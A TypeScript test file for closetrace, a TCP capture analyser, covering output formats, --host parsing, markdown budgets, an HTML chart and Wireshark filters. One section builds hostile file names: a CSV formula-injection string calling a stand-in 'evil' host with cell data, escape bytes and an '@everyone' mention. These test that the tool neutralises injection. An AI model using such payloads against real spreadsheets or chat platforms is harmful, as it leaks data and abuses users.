/**
 * Output as people and pipes expect it, through the built binary: the format from the -o file name,
 * lines never wrapped off a terminal, warnings whole on stderr, --host addresses and prefixes, the
 * --min-stuck note, safe CSV and markdown, the markdown budget, the HTML chart with absurd timestamps,
 * rotated sets analysed apart, and the Wireshark filter of the listed connections.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildPcapng, conversation, LINKTYPE } from '../../tools/craft/index.js';
import { capture, root, run } from './run-cli.js';

const work = mkdtempSync(join(tmpdir(), 'closetrace-output-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const all = join(root, 'captures');
const hasEditcap = ['/usr/bin', '/usr/local/bin'].some((d) => existsSync(join(d, 'editcap')));

describe('-o: the format follows the file name', () => {
  const cases: [string, (text: string) => void][] = [
    ['report.html', (t) => expect(t.startsWith('<!DOCTYPE html>')).toBe(true)],
    ['report.htm', (t) => expect(t.startsWith('<!DOCTYPE html>')).toBe(true)],
    ['report.md', (t) => expect(t.startsWith('# closetrace report')).toBe(true)],
    ['report.json', (t) => expect(JSON.parse(t).schema).toBe(1)],
    ['report.ndjson', (t) => expect(JSON.parse(t.trim().split('\n').at(-1) ?? '').type).toBe('summary')],
    ['report.csv', (t) => expect(t.startsWith('file,stream,client,server')).toBe(true)],
    ['report.txt', (t) => expect(t.startsWith('closetrace 0.')).toBe(true)],
    ['conn.log', (t) => expect(t.startsWith('#separator \\x09\n')).toBe(true)],
    ['conn.tsv', (t) => expect(t).toContain('#path\tconn\n')],
    ['REPORT.HTML', (t) => expect(t.startsWith('<!DOCTYPE html>')).toBe(true)],
    ['report.out', (t) => expect(t.startsWith('closetrace 0.')).toBe(true)],
  ];
  for (const [name, check] of cases) {
    it(name, () => {
      const out = join(work, name);
      const r = run(['-o', out, capture]);
      expect(r.status).toBe(0);
      expect(r.stdout).toBe('');
      check(readFileSync(out, 'utf8'));
    });
  }

  it('--format wins over the extension; -o - is stdout', () => {
    const out = join(work, 'named.html');
    expect(run(['--format', 'json', '-o', out, capture]).status).toBe(0);
    expect(JSON.parse(readFileSync(out, 'utf8')).schema).toBe(1);
    const stdout = run(['-o', '-', '--format', 'markdown', capture]);
    expect(stdout.stdout.startsWith('# closetrace report')).toBe(true);
    expect(readdirSync(root).filter((f) => f === '-')).toEqual([]);
  });

  it('merge takes the format from -o too', () => {
    const part = join(work, 'part.json');
    expect(run(['--format', 'json', '-o', part, capture]).status).toBe(0);
    const out = join(work, 'merged.md');
    expect(run(['merge', part, '-o', out]).status).toBe(0);
    expect(readFileSync(out, 'utf8').startsWith('# closetrace report')).toBe(true);
  });
});

describe('the table off a terminal', () => {
  it('never wraps, so grep finds what it looks for', () => {
    const r = run([all]);
    expect(r.stdout.match(/2001:db8:2::1\]:40008/g)?.length).toBeGreaterThan(0);
    // The same report at COLUMNS=100 splits that address over two lines.
    const narrow = run([all], { env: { COLUMNS: '100' } });
    expect(narrow.stdout.match(/2001:db8:2::1\]:40008/g)).toBeNull();
    for (const line of narrow.stdout.split('\n')) expect([...line].length).toBeLessThanOrEqual(100);
  });

  it('prints every warning whole on stderr, whatever the table does with it', () => {
    const r = run(['--max-connections', '2', capture], { env: { COLUMNS: '60' } });
    const warning = 'connections were judged early because more than 2 were open at once (raise --max-connections)';
    expect(r.stderr).toMatch(new RegExp(`^closetrace: warning: ${capture.replace(/[.]/g, '\\.')}: \\d+ ${warning.replace(/[()]/g, '\\$&')}$`, 'm'));
    // In a 60-column table the same warning is cut in the middle.
    expect(r.stdout).toMatch(/^warning: .*…/m);
    expect(r.stdout).not.toContain(warning);
  });
});

describe('--host', () => {
  const count = (args: string[], file = capture): number => JSON.parse(run(['--format', 'json', '--all', ...args, file]).stdout).summary.connections;
  const ipv6 = join(root, 'captures', 'veth-ipv6-nsec.pcap');

  it('takes IPv4 addresses and CIDR prefixes', () => {
    expect(count(['--host', '127.0.0.1'])).toBe(27);
    expect(count(['--host', '127.0.0.0/8'])).toBe(27);
    expect(count(['--host', '127.0.0.2/31'])).toBe(0);
    expect(count(['--host', '10.0.0.0/8'])).toBe(0);
  });

  it('takes IPv6 in any RFC 5952 or RFC 4291 spelling, and prefixes', () => {
    for (const host of ['2001:db8::2', '2001:DB8:0:0:0:0:0:2', '2001:db8:0::0:2', '[2001:db8::2]', '2001:db8::/32', '2001:db8::2/127']) expect(count(['--host', host], ipv6), host).toBe(27);
    expect(count(['--host', '2001:db9::/32'], ipv6)).toBe(0);
  });

  it('refuses anything else instead of matching nothing', () => {
    for (const host of ['foo', 'example.com', '10.0.0.0/33', '10.0.0', '2001:db8::1::2', '010.0.0.1', '10.0.0.1/']) {
      const r = run(['--host', host, capture]);
      expect(r.status, host).toBe(2);
      expect(r.stderr, host).toContain('is not an IP address or CIDR prefix');
    }
  });
});

describe('--min-stuck', () => {
  it('says how many close-waits it hid, in every format', () => {
    const args = ['--min-stuck', '1m', capture];
    const json = JSON.parse(run(['--format', 'json', ...args]).stdout);
    expect(json.summary.verdicts['close-wait']).toBe(4);
    expect(json.summary.hiddenByMinStuck).toBe(4);
    expect(json.connections.some((c: { verdict: string }) => c.verdict === 'close-wait')).toBe(false);
    const note = '4 close-waits were stuck for less than --min-stuck: counted, but not listed.';
    expect(run(args).stdout).toContain(note);
    expect(run(['--format', 'markdown', ...args]).stdout).toContain(note);
    expect(run(['--format', 'html', ...args]).stdout).toContain(note);
    expect(JSON.parse(run(['--format', 'json', capture]).stdout).summary.hiddenByMinStuck).toBe(0);
  });

  it('merge counts what it hides the same way', () => {
    const part = join(work, 'min-stuck-part.json');
    expect(run(['--format', 'json', '-o', part, capture]).status).toBe(0);
    expect(JSON.parse(run(['merge', part, '--format', 'json', '--min-stuck', '1m']).stdout).summary.hiddenByMinStuck).toBe(4);
  });
});

describe('hostile file names in CSV and markdown', () => {
  it('CSV: no live formula and no raw control bytes reach a spreadsheet', () => {
    const dir = join(work, 'hostile');
    mkdirSync(dir);
    const name = join(dir, '=HYPERLINK("http:\\evil\\"&A1,"x")\x1b[31m\x07.pcap');
    copyFileSync(capture, name);
    const csv = run(['--format', 'csv', name]).stdout;
    const rows = csv.trim().split('\r\n').slice(1);
    expect(rows.length).toBe(21);
    for (const row of rows) {
      expect(row.startsWith(`"'=HYPERLINK(`) || row.startsWith(`"${dir}`) || row.startsWith(dir)).toBe(true);
      expect(row).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
      expect(row).toContain('\\x1b[31m\\x07.pcap');
    }
  });

  it('a capture name leading with = is a formula in a CSV cell only when it is a whole cell', () => {
    const dir = join(work, 'formula');
    mkdirSync(dir);
    const name = '=1+1.pcap';
    copyFileSync(capture, join(dir, name));
    const csv = run(['--format', 'csv', name], { cwd: dir }).stdout;
    expect(csv.split('\r\n')[1].startsWith("'=1+1.pcap,")).toBe(true);
    const md = run(['--format', 'markdown', name], { cwd: dir }).stdout;
    expect(md).toContain("| `'=1+1.pcap` |");
  });

  it('markdown: mentions and issue references from file names become code, never a ping', () => {
    const dir = join(work, 'mentions');
    mkdirSync(dir);
    const bad = join(dir, '@everyone #12.pcap');
    writeFileSync(bad, 'not a capture');
    const md = run(['--format', 'markdown', capture, bad]).stdout;
    const errorLine = md.split('\n').find((l) => l.startsWith('- **Error:**')) ?? '';
    expect(errorLine).toContain('`@everyone`');
    expect(errorLine).toContain('`#12`');
    expect(errorLine.replace(/`[^`]*`/g, '')).not.toMatch(/@\w|#\d/);
  });
});

describe('--markdown-budget', () => {
  const corpus = join(root, '..', 'shared', 'corpus', 'files');
  it('keeps a whole archive under the default 60,000 characters and says what it left out', () => {
    const inputs = [all, ...(existsSync(corpus) ? [corpus] : [])];
    const full = run(['--format', 'markdown', '--markdown-budget', '0', ...inputs]).stdout;
    const fitted = run(['--format', 'markdown', ...inputs]).stdout;
    expect(fitted.length).toBeLessThanOrEqual(60_000);
    if (full.length > 60_000) expect(fitted).toMatch(/Shortened to fit 60,000 characters.*left out \d+ examples/);
    else expect(fitted).toBe(full);
  });

  it('fits a small budget, the summary first', () => {
    for (const budget of [20_000, 5_000, 1_000]) {
      const md = run(['--format', 'markdown', '--markdown-budget', String(budget), all]).stdout;
      expect(md.length, String(budget)).toBeLessThanOrEqual(budget);
      expect(md).toContain(`Shortened to fit ${budget.toLocaleString('en-US')} characters`);
      expect(md.startsWith('# closetrace report')).toBe(true);
    }
  });

  it('rejects what is not a number', () => {
    expect(run(['--format', 'markdown', '--markdown-budget', 'lots', capture]).status).toBe(2);
  });
});

describe('the HTML closes chart', () => {
  it('shows the bulk of the closes and says what it left out when timestamps are absurd', () => {
    const conversations: ReturnType<typeof conversation>[] = [];
    for (let i = 0; i < 12; i++) {
      const c = conversation(`10.0.0.1:${40000 + i}`, '10.0.0.2:80', { start: 1_790_000_000 + i * 0.5 });
      c.syn();
      c.synAck();
      c.ack();
      c.rst('a');
      conversations.push(c);
    }
    // One connection in 1970, one in the year 586524 (2^64 microseconds), as broken clocks produce.
    const early = conversation('10.0.0.1:50000', '10.0.0.2:80', { start: 5 });
    const late = conversation('10.0.0.1:50001', '10.0.0.2:80', { start: { seconds: 18_446_744_073_000, nanos: 0 } });
    for (const c of [early, late]) {
      c.syn();
      c.synAck();
      c.ack();
      c.rst('a');
    }
    const file = join(work, 'absurd-times.pcapng');
    writeFileSync(
      file,
      buildPcapng((w) => {
        const i = w.addInterface({ linkType: LINKTYPE.RAW, tsresol: 6, writeTsresol: true });
        for (const c of [early, ...conversations, late]) for (const p of c.packets) w.enhancedPacket({ interfaceId: i, ts: p.ts, data: p.data });
      }),
    );
    const html = run(['--format', 'html', '--all', file]).stdout;
    const chart = /<h3>Closes over time<\/h3>\s*<figure>(<svg[\s\S]*?<\/svg>)/.exec(html)?.[1] ?? '';
    expect(chart).not.toBe('');
    expect(chart).toContain('Not shown: 2 connections ending far from the others (1970-01-01');
    expect(chart).toContain('year 586');
    // The axis spans the real closes: 2026 dates and seconds per bar, not thousands of hours.
    expect(chart).toMatch(/2026-09-21/);
    expect(chart).not.toMatch(/\d{3,} h per bar/);
    expect(chart).toMatch(/ms per bar|s per bar/);
  });
});

describe('captures of one rotated set analysed apart', () => {
  it.skipIf(!hasEditcap)('are named as such, in the report and on stderr, and not with --join', () => {
    const dir = join(work, 'rotated');
    mkdirSync(dir);
    execFileSync('editcap', ['-c', '70', capture, join(dir, 'part.pcap')]);
    const parts = readdirSync(dir).sort().map((f) => join(dir, f));
    expect(parts.length).toBe(4);
    const apart = run(['--format', 'json', dir]);
    const report = JSON.parse(apart.stdout);
    expect(report.summary.connections).toBeGreaterThan(27);
    const warning = report.captures[0].warnings.find((w: string) => w.includes('look like one capture split in parts')) ?? '';
    expect(warning).toContain('these 4 files look like one capture split in parts');
    expect(warning).toContain('use --join');
    expect(apart.stderr).toContain('these 4 files look like one capture split in parts');
    const joined = run(['--format', 'json', '--join', ...parts]);
    expect(joined.stderr).not.toContain('split in parts');
    expect(JSON.parse(joined.stdout).summary.connections).toBe(27);
    // Worker threads gather the same evidence.
    expect(run(['--format', 'json', '--jobs', '2', dir]).stderr).toContain('these 4 files look like one capture split in parts');
  });

  it('independent captures are not taken for one', () => {
    expect(run([all]).stderr).not.toContain('split in parts');
  });
});

describe('the Wireshark display filter of the listed connections', () => {
  it('is in the table, markdown, HTML and JSON', () => {
    const filter = 'tcp.stream in {4..23, 26}';
    expect(run([capture]).stdout).toContain(`Wireshark display filter for the 21 listed connections:\n${filter}\n`);
    expect(run(['--format', 'markdown', capture]).stdout).toContain(`\`${filter}\``);
    expect(run(['--format', 'html', capture]).stdout).toContain(`<code>${filter}</code>`);
    expect(JSON.parse(run(['--format', 'json', capture]).stdout).displayFilters).toEqual([{ file: capture, connections: 21, filter }]);
    expect(JSON.parse(run(['--format', 'json', '--verdict', 'refused', capture]).stdout).displayFilters[0].filter).toBe('tcp.stream eq 22');
  });
});
